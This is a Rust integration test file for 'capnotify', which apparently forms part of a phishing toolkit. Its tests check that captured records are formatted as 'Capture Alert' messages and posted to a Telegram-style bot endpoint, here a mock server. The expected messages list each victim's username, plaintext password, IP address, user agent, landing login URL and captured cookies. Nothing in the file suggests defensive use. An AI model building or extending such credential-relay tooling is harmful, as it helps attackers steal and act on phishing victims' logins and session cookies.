//! Integration tests for common capnotify workflows.
//!
//! These wire the settings file, a record file and the notifier together the
//! way a host application would.

use capnotify::prelude::*;
use serde_json::json;
use std::sync::Arc;
use tempfile::TempDir;
use wiremock::matchers::{body_json, method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

const SEND_PATH: &str = "/bot777/sendMessage";

fn dispatcher_for(server: &MockServer) -> WebhookDispatcher {
    WebhookDispatcher::new(
        DispatcherConfig::builder()
            .endpoint_prefix(format!("{}/bot", server.uri()))
            .time_zone(ReportTimeZone::Utc)
            .build(),
    )
    .unwrap()
}

// =============================================================================
// Settings File -> Notifier
// =============================================================================

#[tokio::test]
async fn test_configure_restart_and_notify() {
    let server = MockServer::start().await;
    let dir = TempDir::new().unwrap();
    let settings_path = dir.path().join("capnotify.json");

    // First run: an operator configures delivery.
    {
        let config = NotificationConfig::open(&settings_path).unwrap();
        config
            .set_webhook_url(format!("{}{}", server.uri(), SEND_PATH))
            .unwrap();
        config.set_chat_id("-100").unwrap();
        config.set_enabled(true).unwrap();
    }

    // Second run: the host reloads the same file and a capture completes.
    let records_path = dir.path().join("records.json");
    std::fs::write(
        &records_path,
        serde_json::to_string(&json!([{
            "id": "sess-42",
            "source": "demo",
            "principal": "carol",
            "secret": "hunter2",
            "origin_address": "10.0.0.7",
            "client_descriptor": "curl/8.0",
            "landing_reference": "https://login.example.com/",
            "completed_at": 1_700_000_000,
            "custom": {"note": "vip"}
        }]))
        .unwrap(),
    )
    .unwrap();

    let expected_text = "🚨 *Capture Alert* 🚨\n\n\
*Source:* demo\n\
*Username:* carol\n\
*Password:* hunter2\n\
*Remote IP:* 10.0.0.7\n\
*User Agent:* curl/8.0\n\
*Landing URL:* https://login.example.com/\n\
*Capture Time:* 2023-11-14 22:13:20\n\
\n\
*Custom Data:*\n  `note`: vip\n";

    Mock::given(method("POST"))
        .and(path(SEND_PATH))
        .and(body_json(json!({"chat_id": "-100", "text": expected_text})))
        .respond_with(ResponseTemplate::new(200))
        .expect(1)
        .mount(&server)
        .await;

    let config = Arc::new(NotificationConfig::open(&settings_path).unwrap());
    assert!(config.is_enabled());

    let records = JsonRecordStore::open(&records_path).unwrap();
    let notifier = CaptureNotifier::new(config, Arc::new(records), dispatcher_for(&server));

    assert_eq!(notifier.notify("sess-42").await.unwrap(), Delivery::Sent);
}

#[tokio::test]
async fn test_disable_survives_restart() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(200))
        .expect(0)
        .mount(&server)
        .await;

    let dir = TempDir::new().unwrap();
    let settings_path = dir.path().join("capnotify.toml");

    {
        let config = NotificationConfig::open(&settings_path).unwrap();
        config
            .set_webhook_url(format!("{}{}", server.uri(), SEND_PATH))
            .unwrap();
        config.set_chat_id("1").unwrap();
        config.set_enabled(true).unwrap();
        config.set_enabled(false).unwrap();
    }

    let config = Arc::new(NotificationConfig::open(&settings_path).unwrap());
    let records = MemoryRecordStore::new();
    records.insert(CapturedRecord::new("sess-1"));

    let notifier = CaptureNotifier::new(config, Arc::new(records), dispatcher_for(&server));
    assert_eq!(notifier.notify("sess-1").await.unwrap(), Delivery::Skipped);
}

// =============================================================================
// Formatting Without Delivery
// =============================================================================

#[test]
fn test_format_report_from_prelude() {
    let record = CapturedRecord::new("r")
        .with_source("demo")
        .with_cookie("a.example", CookieToken::new("sid", "1"));

    let text = ReportFormatter::utc().format(&record);
    assert!(text.contains("*Cookies Captured:*\n  `a.example`: 1 cookies\n"));
    assert!(!text.contains("*Password:*"));
}

#[test]
fn test_settings_validation_from_prelude() {
    let settings = NotificationSettings::default();
    assert!(settings.validate().is_err());
}
